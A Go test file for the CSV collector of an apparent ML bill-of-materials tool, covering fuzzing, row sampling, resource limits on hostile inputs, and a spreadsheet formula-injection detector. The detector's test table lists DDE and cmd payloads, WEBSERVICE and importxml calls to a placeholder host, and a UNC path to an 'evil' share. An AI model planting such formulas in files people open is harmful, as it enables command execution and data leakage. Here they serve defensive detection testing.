package csv

import (
	"bytes"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/mlbom/mlbom/sbom"
	"github.com/mlbom/mlbom/sbom/sbomtest"
)

func Test(t *testing.T) { sbomtest.Run(t, &Collector) }

func Fuzz(f *testing.F) {
	sbomtest.Fuzz(f, &Collector, "data/train.csv", []byte("a,b\n\"x\"\"y\",2\r\n1,'z'\n"), []byte("a\tb\\\"\n1\t2\n"), []byte("\xff\xfea\x00,\x00\n\x00"), []byte("a,label\n=SUM(A1),@DDE(x)\n"))
}

func TestFormula(t *testing.T) {
	for text, want := range map[string]string{
		"=cmd|' /C calc'!A0":                            "acts",
		"+cmd|' /C calc'!A0":                            "acts",
		"-2+3+cmd|' /C calc'!A0":                        "acts",
		"@SUM(1+1)*cmd|' /C calc'!A0":                   "acts",
		"\t=cmd|'/C calc'!A1":                           "acts",
		"=DDE(\"cmd\";\"/C calc\";\"x\")":               "acts",
		"=MSEXCEL|'\\..\\..\\Windows\\cmd.exe /c x'!''": "acts",
		"=HYPERLINK(\"http://a\")":                      "acts",
		"=IF(A1,WEBSERVICE(\"http://a\"),0)":            "acts",
		"=importxml(CONCAT(\"http://a\",A1),\"//a\")":   "acts",
		"='\\\\evil\\share\\[x.xls]s'!A1":               "acts",
		"=SUM(A1:A3)":                                   "plain",
		"=A1+B2":                                        "plain",
		"+A1":                                           "",
		"-":                                             "",
		"--":                                            "",
		"-1":                                            "",
		"+1":                                            "",
		"+1 agree":                                      "",
		"+1-555-0100":                                   "",
		"=1+1":                                          "",
		"=)":                                            "",
		"==":                                            "",
		"== References ==":                              "",
		"=> next":                                       "",
		"@user hello":                                   "",
		"@image (of a cat)":                             "",
		"- a list with IMAGE (3) in it":                 "",
		"-call me (now)":                                "",
		"- if we call (him) | 'x'! no":                  "",
		"=C(C)C":                                        "",
		"-a | b!":                                       "",
		"@Override public int exec(String x)":           "",
		"+ query (x)":                                   "",
		"-O2 -Wall":                                     "",
	} {
		acts, what := formula([]byte(text))
		got := ""
		if acts {
			got = "acts"
		} else if what != "" {
			got = "plain"
		}
		if got != want {
			t.Errorf("%q is %q (%s), want %q", text, got, what, want)
		}
	}
}

func read(t *testing.T, data string, profile bool) ([]sbom.Sighting, error) {
	t.Helper()
	f := sbom.NewFile(fstest.MapFS{"data/x.csv": {Data: []byte(data)}}, "data/x.csv")
	f.Settings.Profile = profile
	return collect(t.Context(), f)
}

// TestSample: of a large file the first MiB is looked at, and no count stands that is
// not one of all rows; a profile counts them.
func TestSample(t *testing.T) {
	row := "12,some text,yes\n"
	rows := 3 * sampleSize / len(row)
	data := "n,text,label\n" + strings.Repeat(row, rows) + "x,last,no\n"
	seen, err := read(t, data, false)
	table := seen[0].File.Table
	if err != nil || table.Rows != nil || !strings.HasPrefix(table.Sample, "first 6") || table.Columns[0].Type != "int64" || table.Columns[0].Nulls != nil || table.Columns[2].Labels != nil {
		t.Errorf("got %+v, %v", table, err)
	}
	seen, err = read(t, data, true)
	table = seen[0].File.Table
	if err != nil || *table.Rows != int64(rows+1) || table.Sample != "" || table.Columns[0].Type != "string" || *table.Columns[0].Distinct != 2 ||
		len(table.Columns[2].Labels) != 2 || table.Columns[2].Labels[0] != (sbom.LabelCount{Label: "yes", Rows: int64(rows)}) {
		t.Errorf("got %+v, %v", table, err)
	}
}

// TestHostile: memory and time do not follow what a text claims.
func TestHostile(t *testing.T) {
	for name, data := range map[string]string{
		"quote":   "a,b\n\"" + strings.Repeat("x", 5<<20),
		"columns": strings.Repeat("a,", 200_000) + "\n",
		"quotes":  "a\n\"" + strings.Repeat("\"\"", 2<<20) + "\"\n",
		"commas":  "a,b\n" + strings.Repeat(strings.Repeat(",", 3000)+"\n", 500),
	} {
		seen, err := read(t, data, true)
		if len(seen) == 0 || err == nil && name != "quotes" && name != "commas" {
			t.Errorf("%s: got %d sightings, %v", name, len(seen), err)
		}
	}
	if _, err := read(t, string(bytes.Repeat([]byte("\x00\x01\x02"), 100)), true); err == nil {
		t.Error("bytes that are no text give no problem")
	}
}
